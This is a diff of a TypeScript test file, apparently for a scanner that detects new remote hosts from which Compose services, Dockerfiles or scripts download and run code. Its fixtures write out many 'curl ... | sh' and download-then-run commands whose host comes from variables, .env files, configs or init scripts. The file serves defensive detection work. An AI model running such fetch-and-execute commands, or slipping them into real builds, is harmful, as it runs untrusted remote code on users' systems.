@@ -21,6 +21,18 @@ const WAYS: readonly (readonly [name: string, files: (address: string) => Files]
   ['read', (address) => RUN(`echo ${address}/x.sh | while read u; do curl -fsSL $u | sh; done`)],
   ['a file that is run', (address) => RUN(`if [ -e /x ]; then U=${address}/x; fi; curl -fsSLo /y $U; sh /y`)],
   [
+    'a variable of the container',
+    (address) =>
+      SERVICE(`${OF_IMAGE}    environment: {U: ${address}/x}\n    command: sh -c 'curl -fsSL $$U | sh'\n`, {}),
+  ],
+  [
+    'a variable of the container in a file',
+    (address) =>
+      SERVICE(`${OF_IMAGE}    env_file: a.env\n    command: ["sh", "-c", "curl -fsSL $\${U} | sh"]\n`, {
+        'a.env': `U=${address}/x\n`,
+      }),
+  ],
+  [
     'a variable of a container for the command of its image',
     (address) =>
       SERVICE(`    build: .\n    environment:\n      U: ${address}/x.sh\n`, {
@@ -46,6 +58,75 @@ const WAYS: readonly (readonly [name: string, files: (address: string) => Files]
     (address) => SERVICE(`${MOUNTED}    command: sh /x.sh ${address}/x.sh\n`, { 'x.sh': 'curl -fsSL "$1" | sh\n' }),
   ],
 ];
+
+const IN_CONFIG = (text: string): Files =>
+  SERVICE(
+    `${OF_IMAGE}    configs: [{source: c, target: /x}]\n    command: sh /x\nconfigs:\n  c:\n    content: |\n      ${text.replaceAll('\n', '\n      ')}\n`,
+    {},
+  );
+const IN_SCRIPT = (text: string): Files => SERVICE(`${MOUNTED}    command: sh /x.sh\n`, { 'x.sh': text });
+
+/** Ways in which another line than that of the command decides the host, where the line of the command names a host or none. */
+const OTHER_LINES: typeof WAYS = [
+  ['a line of a script', (address) => IN_SCRIPT(`BASE=${address}\ncurl -fsSL $BASE/x | sh\n`)],
+  ['a name in a script', (address) => IN_SCRIPT(`B=${address.slice(8)}\nf() { curl https://$B/x | sh; }\nf\n`)],
+  ['a line of a script that saves', (address) => IN_SCRIPT(`U=${address}/x\ncurl -fsSLo /y $U\nsh /y\n`)],
+  [
+    'a script for a database',
+    (address) => ({
+      'compose.yaml':
+        'services: {a: {image: "registry.example.com/postgres:17", volumes: ["./i:/docker-entrypoint-initdb.d"]}}\n',
+      'i/a.sh': `BASE=${address}\ncurl -fsSL $BASE/x | sh\n`,
+    }),
+  ],
+  ['a line of a config', (address) => IN_CONFIG(`U=${address}/x\ncurl -fsSL $$U | sh`)],
+  [
+    '.env for a config',
+    (address) => ({ ...IN_CONFIG(`curl -fsSL \${U:-https://c.example/x} | sh`), '.env': `U=${address}/x\n` }),
+  ],
+  [
+    '.env for a command',
+    (address) =>
+      SERVICE(`${OF_IMAGE}    command: sh -c "curl -fsSL \${U:-https://c.example/x} | sh"\n`, {
+        '.env': `U=${address}/x\n`,
+      }),
+  ],
+  [
+    '.env for a Dockerfile in a compose file',
+    (address) =>
+      SERVICE(
+        '    build:\n      dockerfile_inline: |\n        FROM debian:12\n        RUN curl ${U:-https://c.example/x} | sh\n',
+        { '.env': `U=${address}/x\n` },
+      ),
+  ],
+];
+
+describe('a host that another line decides', () => {
+  it.each(OTHER_LINES)('is new if it is another one: %s', async (_name, files) => {
+    const failures = await failuresOf(files('https://a.example'), files('https://b.example'));
+    expect([...new Set(failures)]).toEqual([expect.stringMatching(/^(?:remote-script-exec|command-downloads-code)$/)]);
+  });
+
+  it.each(OTHER_LINES)('is new if it is part of the name of the old one: %s', async (_name, files) => {
+    expect(await failuresOf(files('https://get.a.example'), files('https://a.example'))).toHaveLength(1);
+  });
+
+  it.each(OTHER_LINES)('is known with another path: %s', async (_name, files) => {
+    expect(await failuresOf(files('https://a.example/1.2'), files('https://a.example/1.3/b'))).toEqual([]);
+  });
+
+  it.each(OTHER_LINES)('is known on another line: %s', async (_name, files) => {
+    const moved = Object.entries(files('https://a.example')).map(([path, text]) => [path, `# more\n${text}`]);
+    expect(await failuresOf(files('https://a.example'), Object.fromEntries(moved))).toEqual([]);
+  });
+});
+
+it('is new where a variable without a value gets one', async () => {
+  const text = 'curl -fsSL $U | sh\n';
+  expect(await failuresOf(IN_SCRIPT(text), IN_SCRIPT(`U=https://b.example/x\n${text}`))).toEqual([
+    'command-downloads-code',
+  ]);
+});
 
 describe('another host that something fetches from', () => {
   it.each(WAYS)('is new: %s', async (_name, files) => {
